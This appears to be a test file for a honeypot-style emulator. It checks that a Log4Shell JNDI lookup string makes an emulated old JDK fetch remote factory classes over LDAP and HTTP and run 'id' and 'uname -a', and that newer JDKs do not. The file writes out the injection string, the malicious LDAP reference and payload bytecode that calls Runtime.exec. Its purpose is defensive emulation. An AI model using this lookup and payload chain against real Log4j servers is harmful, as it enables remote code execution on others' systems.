/**
 * A Log4j lookup whose LDAP answer names a remote factory: the class is fetched from the codebase
 * and run in the emulated JVM (further classes from the same codebase), on a JDK that still trusts
 * URL codebases; a newer JDK neither fetches nor runs it.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { RecordingEndpoint, type ConnectResult, type EndpointSocket, type ReceiveResult } from '../../../src/emulator/behaviour/network-endpoint.ts';
import { berInteger, berSequence, berString } from '../../../src/emulator/jndi/ber.ts';
import { evaluateLog4jLookups, javaEnvironment, trustsUrlCodebase, type JndiContext } from '../../../src/emulator/jndi/index.ts';
import type { DummyObservation } from '../../../src/emulator/services/observation.ts';
import { ClassBuilder } from '../jvm/class-builder.ts';

const LDAP = '198.51.100.20';
const CODEBASE = `http://${LDAP}:8000/`;

/** answers the n-th connection to a destination with its n-th list of chunks, one per receive, then closes */
class PeerEndpoint extends RecordingEndpoint {
  private readonly queues = new Map<number, Uint8Array[]>();
  constructor(private readonly peers: Map<string, Uint8Array[][]>) {
    super();
  }
  override connect(socket: EndpointSocket, address: string, port: number): ConnectResult {
    super.connect(socket, address, port);
    this.queues.set(socket.id, [...(this.peers.get(`${address}:${port}`)?.shift() ?? [])]);
    return { kind: 'connected' };
  }
  override receive(socket: EndpointSocket): ReceiveResult {
    const chunk = this.queues.get(socket.id)?.shift();
    return chunk ? { kind: 'data', bytes: chunk } : { kind: 'closed' };
  }
}

function ldapAnswer(factory: string): Uint8Array[] {
  const result = (tag: number) => berSequence(tag, berInteger(0, 0x0a), berString(''), berString(''));
  const attribute = (name: string, value: string) => berSequence(0x30, berString(name), berSequence(0x31, berString(value)));
  const entry = berSequence(0x64, berString('a'), berSequence(0x30, attribute('javaClassName', 'foo'), attribute('javaCodeBase', CODEBASE), attribute('objectClass', 'javaNamingReference'), attribute('javaFactory', factory)));
  const message = (id: number, operation: Uint8Array) => berSequence(0x30, berInteger(id), operation);
  return [message(1, result(0x61)), Buffer.concat([message(2, entry), message(2, result(0x65))])];
}

function httpClass(bytes: Uint8Array): Uint8Array[] {
  return [Buffer.concat([Buffer.from(`HTTP/1.1 200 OK\r\nContent-Type: application/java-vm\r\nContent-Length: ${bytes.length}\r\n\r\n`, 'latin1'), bytes])];
}

function payloadClasses(): { payload: Uint8Array; helper: Uint8Array } {
  const payload = new ClassBuilder('Payload')
    .method('<init>', '()V', (code) => {
      code.aload(0).invokespecial('java/lang/Object', '<init>', '()V');
      code.invokestatic('java/lang/Runtime', 'getRuntime', '()Ljava/lang/Runtime;').ldc('id').invokevirtual('java/lang/Runtime', 'exec', '(Ljava/lang/String;)Ljava/lang/Process;').pop();
      code.new('Helper').dup().invokespecial('Helper', '<init>', '()V').invokevirtual('Helper', 'go', '()V').return();
    })
    .build();
  const helper = new ClassBuilder('Helper')
    .defaultConstructor()
    .method('go', '()V', (code) => {
      code.invokestatic('java/lang/Runtime', 'getRuntime', '()Ljava/lang/Runtime;').ldc('uname -a').invokevirtual('java/lang/Runtime', 'exec', '(Ljava/lang/String;)Ljava/lang/Process;').pop().return();
    })
    .build();
  return { payload, helper };
}

function lookUp(javaVersion: string, withShell = true) {
  const { payload, helper } = payloadClasses();
  const network = new PeerEndpoint(
    new Map([
      [`${LDAP}:1389`, [ldapAnswer('Payload')]],
      // the codebase serves the factory, then the class the factory names
      [`${LDAP}:8000`, [httpClass(payload), httpClass(helper)]],
    ]),
  );
  const observations: DummyObservation[] = [];
  const commands: { shell: string; commandLine: string; origin: string }[] = [];
  const context: JndiContext = {
    network,
    environment: javaEnvironment({ hostName: 'tomcat-dummy', javaVersion, user: 'tomcat' }),
    origin: 'http',
    observe: (observation) => observations.push(observation),
    now: () => 0,
    ...(withShell ? { runCommand: (shell: 'sh' | 'cmd', commandLine: string, origin: string) => (commands.push({ shell, commandLine, origin }), '') } : {}),
  };
  evaluateLog4jLookups('${jndi:ldap://198.51.100.20:1389/a}', context);
  return { network, observations, commands };
}

describe('JNDI remote factory classes', () => {
  it('on 8u102 the class named by the LDAP answer is fetched and run; a class it names comes from the same codebase', () => {
    const { network, observations, commands } = lookUp('1.8.0_102');
    assert.deepEqual(commands, [
      { shell: 'sh', commandLine: 'id', origin: 'java:Payload.<init>' },
      { shell: 'sh', commandLine: 'uname -a', origin: 'java:Helper.go' },
    ]);
    const requests = network.transcript.sent.map((sent) => Buffer.from(sent.bytes).toString('latin1')).filter((text) => text.startsWith('GET '));
    assert.deepEqual(requests.map((request) => request.split('\r\n')[0]), ['GET /Payload.class HTTP/1.1', 'GET /Helper.class HTTP/1.1']);
    const code = observations.find((observation) => observation.kind === 'code');
    assert.ok(code && code.kind === 'code');
    assert.equal(code.service, 'http');
    assert.equal(code.trace.endReason, 'exit');
    assert.ok(code.trace.events.some((event) => event.summary === 'Payload.<init> runs id'));
  });

  it('without a shell in the context the start is still an exec observation', () => {
    const { observations } = lookUp('1.8.0_181', false);
    assert.ok(observations.some((observation) => observation.kind === 'exec' && observation.command === 'id' && observation.origin === 'java:Payload.<init>'));
  });

  it('on 8u191 and later the LDAP provider does not load remote classes', () => {
    const { network, observations, commands } = lookUp('1.8.0_191');
    assert.ok(network.transcript.connects.some((connect) => connect.port === 1389), 'the LDAP search still happens');
    assert.ok(!network.transcript.connects.some((connect) => connect.port === 8000), 'no class fetched');
    assert.deepEqual(commands, []);
    assert.ok(!observations.some((observation) => observation.kind === 'code'));
  });

  it('trustsUrlCodebase follows the JDK releases that turned com.sun.jndi.ldap.object.trustURLCodebase off', () => {
    for (const version of ['1.8.0_102', '1.8.0_181', '1.8.0_190', '1.7.0_80', '1.6.0_45', '11.0.0']) assert.equal(trustsUrlCodebase(version), true, version);
    for (const version of ['1.8.0_191', '1.8.0_301', '1.7.0_201', '11.0.1', '17.0.2', 'garbage']) assert.equal(trustsUrlCodebase(version), false, version);
  });
});
